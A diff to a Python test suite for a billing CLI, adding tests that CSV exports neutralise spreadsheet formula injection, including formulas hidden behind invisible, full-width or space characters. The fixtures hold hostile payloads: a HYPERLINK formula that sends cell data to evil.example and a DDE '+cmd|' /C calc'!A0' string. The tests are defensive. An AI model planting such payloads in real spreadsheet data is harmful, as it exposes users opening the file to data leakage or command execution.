@@ -9,6 +9,7 @@ from __future__ import annotations
 import csv
 import io
 import os
+import re
 import signal
 import subprocess
 import sys
@@ -21,17 +22,21 @@ from pathlib import Path
 
 import polars as pl
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from revcli.data.ids import lookalike_ids
 from revcli.data.validate import load_dataset
 from revcli.data.yamlcompose import compose
 from revcli.data.yamlio import load_records
-from revcli.output.formulas import spreadsheet_safe
+from revcli.output.csvrows import csv_line
+from revcli.output.formulas import spreadsheet_safe, spreadsheet_safe_expr
 from revcli.output.plain import render_csv
 from revcli.output.report import ColumnKind, Report
 from revcli.scaffold import FILES, scaffold
 from revcli.templating.files import TemplateError
 from revcli.templating.load import load_template
+from revcli.visible import visible
 from tests.billing_support import own_seller
 from tests.conftest import ROOT, MakeDir, Run
 
@@ -772,10 +777,107 @@ EVIL_CUSTOMERS = (
         ("Acme AS", "Acme AS"),
         ("a=b", "a=b"),
         ("", ""),
+        # the formula character after spaces a trimming import or paste drops
+        (' =HYPERLINK("http://x","y")', '\' =HYPERLINK("http://x","y")'),
+        ("  +cmd|' /C calc'!A0", "'  +cmd|' /C calc'!A0"),
+        ("\u00a0+1", "'\u00a0+1"),  # no-break space
+        ("\u3000=1", "'\u3000=1"),  # ideographic space
+        ("\u2003-1+2", "'\u2003-1+2"),  # em space
+        ("\n=1", "'\n=1"),  # a quoted cell that starts with a line break
+        ("\u2028@SUM(1)", "'\u2028@SUM(1)"),  # line separator
+        # after invisible characters
+        ("\u200b=1", "'\u200b=1"),  # zero-width space
+        ("\ufeff=1", "'\ufeff=1"),  # byte order mark
+        ("\u2060+1", "'\u2060+1"),  # word joiner
+        ("\u00ad@x", "'\u00ad@x"),  # soft hyphen
+        ("\U000e0041=1", "'\U000e0041=1"),  # a tag character
+        (" \u00a0\u200b\ufeff\u3000\n=1", "' \u00a0\u200b\ufeff\u3000\n=1"),
+        # full-width and small forms, also after spaces
+        ("\uff1d1+1", "'\uff1d1+1"),  # ＝
+        ("\uff0bcmd", "'\uff0bcmd"),  # ＋
+        ("\uff0d5", "'\uff0d5"),  # －
+        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),  # ＠
+        ("\ufe66x", "'\ufe66x"),  # ﹦
+        ("\ufe62x", "'\ufe62x"),  # ﹢
+        ("\ufe63x", "'\ufe63x"),  # ﹣
+        ("\ufe6bx", "'\ufe6bx"),  # ﹫
+        ("\u3000\uff1dHYPERLINK()", "'\u3000\uff1dHYPERLINK()"),
+        # a text that is a negative number is text: escaped (number columns never are)
+        ("-5", "'-5"),
+        (" -12.50", "' -12.50"),
+        # not formulas
+        (" plain text", " plain text"),
+        ("\u00a0Acme", "\u00a0Acme"),
+        ("\u200bAcme", "\u200bAcme"),
+        ("A\uff1dB", "A\uff1dB"),  # ＝ in the middle
+        ("Acme \uff0b Co", "Acme \uff0b Co"),
+        ("a =b", "a =b"),
+        ("\u2212" + "5", "\u2212" + "5"),  # minus sign
+        ("\u2013 dash", "\u2013 dash"),  # en dash
+        ("\u207a1", "\u207a1"),  # superscript plus
+        ("   ", "   "),
+        ("\n", "\n"),
+        ("\u200b", "\u200b"),
     ],
 )
 def test_spreadsheet_safe(text: str, expected: str) -> None:
     assert spreadsheet_safe(text) == expected
+    # the expression for a column says the same, a null stays null
+    column = pl.DataFrame({"t": [text, None]}, schema={"t": pl.String})
+    assert column.select(spreadsheet_safe_expr(pl.col("t")))["t"].to_list() == [expected, None]
+
+
+_FORMULA_CHARACTERS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"
+_SKIPPED_BY_UNICODE = r"^(?:\p{White_Space}|[\x1c-\x1f]|\p{Default_Ignorable_Code_Point})$"
+"""The characters looked past, as Unicode's properties (read by Polars' regex) define
+them: whitespace (and the four separators Python's ``str.strip`` drops too) and the
+invisible characters."""
+
+
+def test_formula_rule_over_every_character() -> None:
+    """Every character of Unicode, alone in front of ``=`` and of ``x``: before ``=`` it
+    is escaped when it is looked past; before ``x`` only when it is a formula character,
+    a tab or a carriage return. Python's ``re`` and Polars say the same for each."""
+    chars = [chr(c) for c in range(0x110000) if not 0xD800 <= c <= 0xDFFF]  # no surrogates
+    frame = pl.DataFrame({"c": chars}, schema={"c": pl.String}).with_columns(
+        pl.col("c").str.contains(_SKIPPED_BY_UNICODE).alias("skipped"),
+        pl.col("c").is_in(list(_FORMULA_CHARACTERS)).alias("formula"),
+        (spreadsheet_safe_expr(pl.col("c") + "=") == "'" + pl.col("c") + "=").alias("eq"),
+        (spreadsheet_safe_expr(pl.col("c") + "x") == "'" + pl.col("c") + "x").alias("x"),
+    )
+    # 25 Unicode spaces and line breaks, U+001C-U+001F, 4,174 invisible characters
+    assert frame["skipped"].sum() == 25 + 4 + 4_174
+    assert (frame["eq"] == (frame["skipped"] | frame["formula"])).all()
+    assert (frame["x"] == (frame["formula"] | frame["c"].is_in(["\t", "\r"]))).all()
+    assert [spreadsheet_safe(c + "=") != c + "=" for c in chars] == frame["eq"].to_list()
+    assert [spreadsheet_safe(c + "x") != c + "x" for c in chars] == frame["x"].to_list()
+
+
+_SKIPPED = " \t\n\r\x0b\x1c\x85\u00a0\u3000\u200b\ufeff\u00ad\U000e0041"
+_CELL_CHARS = st.sampled_from(
+    [*_SKIPPED, *"=+-@\uff1d\uff0b\uff0d\uff20\ufe66", *"\u2212\u207aaZ05.'\"|\x1b\u202e"]
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.none() | st.text(_CELL_CHARS, max_size=6), max_size=12))
+def test_a_csv_text_cell_has_a_quote_exactly_when_it_starts_like_a_formula(
+    cells: list[str | None],
+) -> None:
+    """Whether a text column is judged as one expression or, for a cell with a control
+    character, cell by cell: a CSV cell is the text as shown (control characters as
+    codes), with a ``'`` in front exactly when that starts with a tab or a carriage
+    return, or its first character past spaces and invisible ones starts a formula."""
+    frame = pl.DataFrame({"name": cells}, schema={"name": pl.String})
+    written = [row["name"] for row in _csv(render_csv(Report("t", frame)))]
+    for cell, out in zip(cells, written, strict=True):
+        if cell is None:
+            assert out == ""
+            continue
+        shown = visible(re.sub("\r(?!\n)", "<U+000D>", cell), keep="\t\n\r")
+        first = shown.lstrip(_SKIPPED)[:1]
+        formula = shown[:1] in ("\t", "\r") or first in set("=+-@\uff1d\uff0b\uff0d\uff20\ufe66")
+        assert out == ("'" + shown if formula else shown)
 
 
 def test_csv_escapes_text_cells_only() -> None:
@@ -799,6 +901,81 @@ def test_csv_escapes_text_cells_only() -> None:
 
 def _csv(text: str) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_csv_escapes_formulas_past_spaces_and_full_width_in_text_columns_only() -> None:
+    texts = [" =1", "\u200b+1", "\uff1d1", "\u3000@x", "-5", "a=b", " plain", "\x1b=1", None]
+    frame = pl.DataFrame(
+        {
+            "name": texts,
+            "segment": pl.Series(["\uff20x", "x", "x", "x", "x", "x", "x", "x", "x"]).cast(
+                pl.Enum(["\uff20x", "x"])
+            ),
+            "amount": [Decimal("-5")] * 9,
+            "count": [-5] * 9,
+            "plain_number": [-5] * 9,  # a whole-number column without a kind
+        }
+    )
+    report = Report(
+        "t", frame, kinds={"amount": ColumnKind.SIGNED_MONEY, "count": ColumnKind.COUNT}
+    )
+    written = _csv(render_csv(report))
+    assert [r["name"] for r in written] == [
+        "' =1",
+        "'\u200b+1",
+        "'\uff1d1",
+        "'\u3000@x",
+        "'-5",  # a negative number held as text is text
+        "a=b",
+        " plain",
+        "<U+001B>=1",  # the escape is shown as its code: no formula at the start
+        "",
+    ]
+    assert [r["segment"] for r in written] == ["'\uff20x"] + ["x"] * 8
+    assert {(r["amount"], r["count"], r["plain_number"]) for r in written} == {
+        ("-5.00", "-5", "-5")
+    }
+    raw = _csv(render_csv(report, raw=True))
+    assert [r["name"] for r in raw] == [*texts[:-1], ""]
+
+
+EVIL_NAMES = {
+    "CUST-001": '\u200b=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "CUST-002": '\uff1dHYPERLINK("http://evil.example/","Click")',
+    "CUST-003": "\ufeff\u3000+cmd|' /C calc'!A0",
+}
+"""Customer names that start like a formula past an invisible character or in full width
+(a data file's cells are trimmed, so a name cannot start with a plain space)."""
+
+
+def test_report_files_escape_formulas_past_invisible_characters(tmp_path: Path, run: Run) -> None:
+    contract = FILES["contracts/CTR-001.yaml"]
+    files = {
+        "customers.csv": "customer_id,name,country\n"
+        + "".join(csv_line([cid, name, "NO"]) for cid, name in EVIL_NAMES.items()),
+        **{
+            f"contracts/CTR-00{n}.yaml": contract.replace("CTR-001", f"CTR-00{n}").replace(
+                "CUST-001", f"CUST-00{n}"
+            )
+            for n in (1, 2, 3)
+        },
+    }
+    root = build(tmp_path / "data", Case(files=files))
+    out = tmp_path / "mrr.csv"
+    d = ("--data", root)
+    result = run("mrr", *d, "--month", "2026-03", "--by", "name", "--out", out)
+    assert result.exit_code == 0, result.output
+    written = _csv(out.read_text(encoding="utf-8"))
+    assert {(r["name"], r["mrr"]) for r in written} == {  # 10 seats × 490 each
+        ("'" + name, "4900.00") for name in EVIL_NAMES.values()
+    }
+    journal = tmp_path / "journal.csv"
+    assert run("invoice", "issue", *d, "--period", "2026-01", "-f", "md").exit_code == 0
+    assert run("invoice", "export", *d, "--out", journal).exit_code == 0
+    exported = _csv(journal.read_text(encoding="utf-8"))
+    assert {r["customer_id"]: r["customer_name"] for r in exported} == {
+        cid: "'" + name for cid, name in EVIL_NAMES.items()
+    }
 
 
 def test_reports_in_csv_escape_formula_text(tmp_path: Path, run: Run) -> None:
